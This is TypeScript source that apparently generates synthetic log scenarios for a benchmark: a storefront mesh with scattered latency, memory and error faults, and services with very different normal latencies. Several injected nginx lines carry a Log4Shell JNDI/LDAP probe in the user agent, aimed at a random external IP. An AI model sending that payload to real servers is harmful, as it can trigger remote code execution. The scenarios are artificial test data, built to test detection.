// Micro-service shops: faults scattered over the whole window, and services whose normal
// latencies are orders of magnitude apart.

import type { Scenario } from "../blind/types.js";
import {
  fill,
  iso,
  k8s,
  logstash,
  MIN,
  nginxLine,
  otel,
  pino,
  pod,
  pyjson,
  rng,
  structlog,
  Timeline,
  times,
  traceIds,
  UAS,
  uuid,
  weighted,
  windowStart,
  zap,
} from "./kit.js";

export function shopMeshScatteredFaults(seed: number): Scenario {
  const name = "shop-mesh-scattered-faults";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 180 * MIN;
  const tl = new Timeline();
  const front = pod(r, "storefront");
  const cart = pod(r, "cart");
  const inv = pod(r, "inventory");
  const reco = pod(r, "recommendations");
  const ing = pod(r, "ingress-nginx", "ingress");
  const skus = Array.from({ length: 60 }, () => `SKU-${r.int(10000, 99999)}`);
  const paths = ["/api/products", "/api/cart", "/api/recommendations", "/api/search?q=lamp", "/api/checkout/summary", "/static/app.4f1c9.js"];

  const storefront = (t: number, status: number, ms: number): Record<string, unknown> => {
    const url = `/products/${r.pick(skus)}`;
    return pino(front, t, status >= 500 ? "error" : "info", status >= 500 ? "request errored" : "request completed", {
      req: {
        id: r.int(1, 9_000_000),
        method: "GET",
        url,
        headers: { host: "shop.example.com", "user-agent": r.pick(UAS) },
        remoteAddress: r.ip("10.2."),
        remotePort: r.int(30000, 60000),
      },
      res: { statusCode: status, headers: { "content-type": "text/html; charset=utf-8" } },
      responseTime: Math.round(ms),
    });
  };
  const reserve = (t: number, ms: number): Record<string, unknown> =>
    logstash(inv, t, "info", "c.s.inventory.ReservationService", `http-nio-8080-exec-${r.int(1, 40)}`, `Reserved stock for order`, {
      sku: r.pick(skus),
      qty: r.int(1, 4),
      duration_ms: Math.round(ms),
      traceId: r.hex(32),
    });

  // Periodic worker stats from the recommendations service: one a minute, a few scattered readings high.
  const statMinutes = Array.from({ length: 180 }, (_, i) => i);
  const highStats = new Set<number>();
  const nHigh = r.int(6, 9);
  while (highStats.size < nHigh) highStats.add(r.int(3, 177));
  for (const m of statMinutes) {
    const t = t0 + m * MIN + r.int(0, 900);
    const high = highStats.has(m);
    const pct = high ? 92 + r.next() * 6 : 38 + r.next() * 18;
    tl.add(
      t,
      structlog(reco, t, high ? "warn" : "info", "worker stats", {
        worker_pid: r.int(7, 12),
        rss_mb: Math.round(pct * 20.48),
        memory_percent: Number(pct.toFixed(1)),
        requests_served: r.int(400, 2000),
      }),
      high ? "memory" : null,
    );
  }
  // The worker killed for memory, once, after one of the high readings.
  const killed = [...highStats][0] ?? 50;
  const tk = t0 + killed * MIN + 1500;
  tl.add(tk, pyjson(reco, tk, "error", "gunicorn.error", `Worker (pid:${r.int(7, 12)}) was sent SIGKILL! Perhaps out of memory?`), "memory");

  // Scattered slow reservations and cart-store timeouts.
  for (const t of times(r, r.int(6, 9), t0, t1)) tl.add(t, reserve(t, 3500 + r.next() * 6000), "performance");
  for (const t of times(r, r.int(3, 5), t0, t1))
    tl.add(
      t,
      zap(cart, t, "warn", "store/redis.go:141", "redis GET timed out", { key: `cart:${uuid(r)}`, latency_ms: 3000 + r.int(0, 50), attempt: 3 }),
      "performance",
    );
  // Scattered failures in the storefront.
  for (const t of times(r, r.int(8, 12), t0, t1)) {
    const e = storefront(t, 500, 20 + r.next() * 30);
    e.err = {
      type: "TypeError",
      message: "Cannot read properties of undefined (reading 'price')",
      stack:
        "TypeError: Cannot read properties of undefined (reading 'price')\n    at renderPrice (/app/dist/views/product.js:88:31)\n    at Array.map (<anonymous>)\n    at ProductPage (/app/dist/views/product.js:41:22)",
    };
    tl.add(t, e, "error");
  }
  // Log4Shell probes in the user agent, scattered.
  for (const t of times(r, r.int(4, 7), t0, t1)) {
    const ua = `\${jndi:ldap://${r.ip("45.")}:1389/Basic/Command/Base64/${r.hex(24)}}`;
    tl.add(t, k8s(ing, t, nginxLine(t, r.ip("185."), "GET", "/api/products?id=1", 400, 150, ua, 0.001, null)), "pattern");
  }

  fill(tl, r, r.int(4000, 4500) - tl.size, t0, t1, (t) =>
    weighted(r, [
      [
        30,
        () => {
          const rt = r.logn(0.045, 0.5);
          return k8s(
            ing,
            t,
            nginxLine(
              t,
              r.ip("10.2."),
              "GET",
              r.pick(paths),
              weighted(r, [
                [95, 200],
                [3, 304],
                [2, 404],
              ]),
              r.int(200, 30000),
              r.pick(UAS),
              rt,
              rt * 0.93,
            ),
          );
        },
      ],
      [
        24,
        () =>
          storefront(
            t,
            weighted(r, [
              [93, 200],
              [5, 304],
              [2, 404],
            ]),
            r.logn(35, 0.4),
          ),
      ],
      [
        14,
        () =>
          r.chance(0.06)
            ? zap(cart, t, "warn", "cart/service.go:77", "cart expired, recreating", { cart_id: uuid(r), age_h: r.int(24, 90) })
            : zap(cart, t, "info", "cart/service.go:52", "cart updated", {
                cart_id: uuid(r),
                items: r.int(1, 9),
                latency_ms: Number(r.logn(9, 0.4).toFixed(2)),
              }),
      ],
      [
        15,
        () =>
          r.chance(0.05)
            ? logstash(inv, t, "warn", "c.s.inventory.ReorderPolicy", "scheduling-1", "Stock below reorder point", { sku: r.pick(skus), on_hand: r.int(0, 5) })
            : reserve(t, r.logn(22, 0.35)),
      ],
      [
        12,
        () =>
          structlog(reco, t, "info", "served recommendations", {
            user_id: r.int(1, 900000),
            model: "two-tower-v7",
            n_items: 24,
            duration_ms: Math.round(r.logn(55, 0.35)),
          }),
      ],
    ] as const)(),
  );
  return tl.scenario(
    name,
    "Storefront mesh with slow reservations, cart-store timeouts, a recommender's memory spikes, a price-rendering bug and Log4Shell probes scattered over three hours",
  );
}

export function latencyTiers100x(seed: number): Scenario {
  const name = "latency-tiers-100x-apart";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 120 * MIN;
  const tl = new Timeline();
  const edge = pod(r, "edge-cache");
  const pricing = pod(r, "pricing-api");
  const reports = pod(r, "report-builder");
  const fraud = pod(r, "fraud-scorer", "risk");

  const envoy = (t: number, ms: number, code = 200): Record<string, unknown> => {
    const f = {
      start_time: iso(t - Math.round(ms)),
      method: "GET",
      path: `/assets/${r.hex(8)}.${r.pick(["webp", "js", "css", "woff2"])}`,
      protocol: "HTTP/2",
      response_code: code,
      response_flags: "-",
      bytes_received: 0,
      bytes_sent: r.int(800, 90000),
      duration: Math.round(ms),
      upstream_service_time: String(Math.max(0, Math.round(ms) - 1)),
      x_forwarded_for: r.ip("81."),
      user_agent: r.pick(UAS),
      request_id: uuid(r),
      authority: "cdn.shop.example.com",
      upstream_host: "10.0.3.17:8080",
    };
    return k8s(edge, t, JSON.stringify(f), f);
  };
  const price = (t: number, ms: number): Record<string, unknown> =>
    zap(pricing, t, "info", "http/middleware.go:64", "served", {
      method: "POST",
      path: "/v2/quote",
      status: 200,
      latency_ms: Number(ms.toFixed(2)),
      currency: r.pick(["EUR", "USD", "GBP"]),
    });
  const report = (t: number, ms: number): Record<string, unknown> =>
    structlog(reports, t, "info", "report rendered", {
      report: r.pick(["monthly-sales", "vat-summary", "stock-ageing", "cohort-retention"]),
      rows: r.int(2000, 90000),
      duration_ms: Math.round(ms),
      format: "pdf",
    });
  const score = (t: number, ms: number): Record<string, unknown> =>
    otel(
      fraud,
      t,
      "info",
      "scored transaction",
      { "risk.score": Number(r.next().toFixed(3)), "model.version": "gbm-2025-09", latency_ms: Math.round(ms), "http.route": "/score" },
      traceIds(r),
    );

  // The edge cache answers in a few milliseconds; a scattered few take hundreds: still under every other service's normal.
  for (const t of times(r, r.int(10, 14), t0, t1)) tl.add(t, envoy(t, 140 + r.next() * 360), "performance");
  // Quotes in seconds instead of tens of milliseconds.
  for (const t of times(r, r.int(6, 9), t0, t1)) tl.add(t, price(t, 2500 + r.next() * 3500), "performance");
  // Reports take seconds normally; a few time out at two minutes.
  for (const t of times(r, r.int(3, 5), t0, t1))
    tl.add(
      t,
      structlog(reports, t, "error", "report render timed out", {
        report: "cohort-retention",
        rows: r.int(400000, 900000),
        duration_ms: 120000,
        timeout_s: 120,
      }),
      "performance",
    );
  // The scorer fails on a handful of transactions.
  for (const t of times(r, r.int(4, 6), t0, t1)) {
    tl.add(
      t,
      otel(
        fraud,
        t,
        "error",
        "scoring failed",
        {
          "exception.type": "ValueError",
          "exception.message": "Input contains NaN, infinity or a value too large for dtype('float32').",
          "exception.stacktrace":
            'Traceback (most recent call last):\n  File "/app/scorer/api.py", line 71, in score\n    proba = model.predict_proba(x)\nValueError: Input contains NaN',
          "http.route": "/score",
        },
        traceIds(r),
      ),
      "error",
    );
  }

  fill(tl, r, r.int(3800, 4300) - tl.size, t0, t1, (t) =>
    weighted(r, [
      [45, () => envoy(t, r.logn(1.5, 0.45))],
      [25, () => price(t, r.logn(35, 0.3))],
      [20, () => score(t, r.logn(180, 0.3))],
      [10, () => report(t, r.logn(3500, 0.35))],
    ] as const)(),
  );
  return tl.scenario(
    name,
    "An edge cache at 1-2 ms, a pricing API at 35 ms, a fraud scorer at 180 ms and a report builder at 3.5 s; scattered slow lines in each, some below another service's normal",
  );
}
